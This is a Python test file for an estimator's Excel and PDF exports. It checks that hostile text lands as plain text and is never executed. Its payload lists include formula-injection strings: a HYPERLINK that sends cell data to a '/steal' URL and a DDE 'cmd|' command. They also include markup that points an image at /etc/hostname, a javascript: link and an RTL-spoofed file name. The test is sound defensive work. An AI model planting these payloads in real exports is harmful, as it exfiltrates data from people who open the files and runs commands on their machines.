"""Formula and markup injection through every export: text that came from a work list or a user is
written as text, never as a formula Excel would run, and never as markup the PDF engine obeys.

The hostile texts are put in every field that is exported (programme, facility, bill and item
names and descriptions, notes); the exports are read back with openpyxl, recalculated and
converted by LibreOffice, and the PDF is parsed back with pdftotext and pdfimages.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from estimator.model import Programme
from tests.reliability.states import make_programme

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Click for the drawings")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
    "\t=1+1",
    "#N/A",
]
MARKUP = [
    "Pipes <50 mm & fittings > 3 m",
    "<b>bold</b> <i>it</i> <font color='red' size='40'>big</font>",
    '<img src="/etc/hostname" width="400" height="400"/>',
    "<a href='javascript:alert(1)'>link</a> <br/> &amp; &lt;",
    "<para>unclosed <b>",
]
ODD = ["\x1b[31mred\x07", "\u202eevil.exe", "x" * 3000]
TEXTS = FORMULAS + MARKUP + ODD


def _hostile() -> Programme:
    prog = make_programme(2, 8)
    prog.name, prog.reference, prog.organisation = FORMULAS[0], "+REF-1", "@Org <b>"
    prog.facilities[0].name = "=1+1 facility"
    prog.facilities[1].notes = MARKUP[2]
    bill = prog.facilities[0].bills[0]
    bill.name = "-Bill <i>"
    for i, text in enumerate(TEXTS):
        item = bill.items[i % len(bill.items)]
        bill.items.append(type(item)(text, Decimal(i + 1), "m2", description_ar=text if i % 2 else "وصف " + text,
                                     rate=Decimal("10"), notes=text))
    return prog


def _clean(text: str) -> str:
    """What a cell can hold: XML 1.0 has no place for most control characters."""
    return "".join(c for c in text if c >= " " or c in "\t\n\r")


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    from estimator.export.pdf import write_pdf
    from estimator.export.xlsx import write_xlsx

    folder = tmp_path_factory.mktemp("exports")
    prog = _hostile()
    out = {}
    for priced in (True, False):
        name = "priced" if priced else "tender"
        write_xlsx(prog, folder / f"{name}.xlsx", priced=priced, lang="both")
        write_pdf(prog, folder / f"{name}.pdf", priced=priced, lang="both")
        out[f"{name}.xlsx"], out[f"{name}.pdf"] = folder / f"{name}.xlsx", folder / f"{name}.pdf"
    return out


@pytest.mark.parametrize("name", ["priced.xlsx", "tender.xlsx"])
def test_xlsx_writes_formula_like_text_as_text(exports: dict[str, Path], name: str) -> None:
    wb = openpyxl.load_workbook(exports[name])
    texts, formulas = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    joined = "\n".join(texts)
    for text in FORMULAS:
        assert _clean(text) in texts or _clean(text) in joined, f"{text!r} was not written as text"
    for formula in formulas:  # the workbook's own arithmetic only: nothing that came from the data
        own = re.sub(r"'(?:[^']|'')*'!", "", formula)  # sheet names in references are the facilities' names
        assert not any(bad in own for bad in ("HYPERLINK", "cmd|", "@SUM", "1+1", "-2+3")), formula


@pytest.mark.parametrize("name", ["priced.xlsx", "tender.xlsx"])
def test_libreoffice_shows_the_texts_and_runs_none_of_them(exports: dict[str, Path], name: str, tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    # every sheet to CSV, UTF-8, after LibreOffice has loaded (and recalculated) the workbook
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir", str(tmp_path),
                    str(exports[name])], check=True, capture_output=True, timeout=300)
    shown = "\n".join(p.read_text(encoding="utf-8") for p in tmp_path.glob("*.csv"))
    assert shown
    # a live HYPERLINK would show only its label; as text, the whole formula shows
    for text in ("+1+1", "-2+3", "@SUM(1,1)", "=1+1 facility", "=cmd|' /C calc'!A0", "=HYPERLINK(", "steal?"):
        assert text in shown, f"{text!r} is not shown as typed"
    assert "#NAME?" not in shown and "Err:" not in shown


@pytest.mark.parametrize("name", ["priced.pdf", "tender.pdf"])
def test_pdf_prints_markup_as_text_and_embeds_no_local_file(exports: dict[str, Path], name: str) -> None:
    shown = subprocess.run(["pdftotext", "-raw", str(exports[name]), "-"], capture_output=True, text=True, check=True).stdout
    flat = " ".join(shown.split())
    for text in ("Pipes <50 mm & fittings > 3 m", "<b>bold</b>", "<img src=", "javascript:alert(1)", "&amp; &lt;", "<para>unclosed"):
        assert text in flat, f"{text!r} was not printed as text"
    images = subprocess.run(["pdfimages", "-list", str(exports[name])], capture_output=True, text=True, check=True).stdout
    assert len(images.strip().splitlines()) <= 2, "an image was embedded: a <img> in the data was obeyed"


def test_comparison_reports_write_names_as_text(tmp_path: Path) -> None:
    """`boq compare --xlsx --pdf`: facility and trade names come from work lists too."""
    from estimator.analysis.compare import compare
    from estimator.analysis.report_pdf import write_comparison_pdf
    from estimator.analysis.report_xlsx import write_comparison_xlsx

    prog = _hostile()
    prog.facilities[1].name = MARKUP[1]
    prog.facilities[1].bills[0].name = "@SUM(9,9)"
    comparison = compare(prog)
    write_comparison_xlsx(comparison, tmp_path / "compare.xlsx")
    write_comparison_pdf(comparison, tmp_path / "compare.pdf")
    wb = openpyxl.load_workbook(tmp_path / "compare.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"=1+1 facility", MARKUP[1]} <= texts
    for c in cells:
        if c.data_type == "f":
            own = re.sub(r"'(?:[^']|'')*'!", "", str(c.value))
            assert not any(bad in own for bad in ("1+1", "@SUM", "<b>")), c.value
    shown = subprocess.run(["pdftotext", "-raw", str(tmp_path / "compare.pdf"), "-"], capture_output=True, text=True,
                           check=True).stdout
    assert "=1+1 facility" in shown and "<b>bold</b>" in " ".join(shown.split())
